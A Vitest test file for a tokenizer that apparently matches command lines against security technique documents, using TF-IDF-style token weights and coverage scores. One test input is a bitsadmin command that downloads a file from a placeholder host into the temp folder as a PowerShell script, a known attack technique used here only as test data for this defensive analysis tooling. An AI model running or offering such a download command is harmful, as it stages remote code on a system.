import { describe, expect, it } from 'vitest';
import { matchTokens, TokenIndex, tokensOf } from './command-tokens.ts';

describe('command tokens', () => {
  it('splits paths, switches and URLs into lower-case words', () => {
    expect([
      ...tokensOf(
        'bitsadmin.exe /transfer /Download https://raw.example.org/T1197.md %temp%\\bitsadmin1_flag.ps1',
      ),
    ]).toEqual([
      'bitsadmin.exe',
      'bitsadmin',
      'transfer',
      'download',
      'https',
      'raw.example.org',
      't1197.md',
      'temp',
      'bitsadmin1_flag.ps1',
    ]);
  });

  it('spells registry hives the way Sysmon abbreviates them', () => {
    expect(tokensOf('HKEY_LOCAL_MACHINE\\SYSTEM\\MiniNt').has('hklm')).toBe(true);
  });

  it('weighs rare and long tokens above common and short ones', () => {
    const index = new TokenIndex();
    for (let i = 0; i < 9; i += 1) {
      index.add(new Set(['windows', 'system32']));
    }
    index.add(new Set(['windows', 'bitsadmin1_flag.ps1']));

    expect(index.weight('bitsadmin1_flag.ps1')).toBeGreaterThan(index.weight('windows') * 4);
    expect(index.weight('ab')).toBeLessThan(index.weight('abcdefghijkl'));
  });

  it('measures how much of a command a document covers', () => {
    const index = new TokenIndex();
    index.add(new Set(['a1', 'b2']));

    const full = matchTokens({
      command: new Set(['a1', 'b2']),
      document: new Set(['a1', 'b2', 'c3']),
      index,
    });
    const half = matchTokens({ command: new Set(['a1', 'b2']), document: new Set(['a1']), index });

    expect(full.coverage).toBe(1);
    expect(half.coverage).toBeCloseTo(0.5, 5);
    expect(half.matched).toBeCloseTo(full.matched / 2, 5);
  });
});
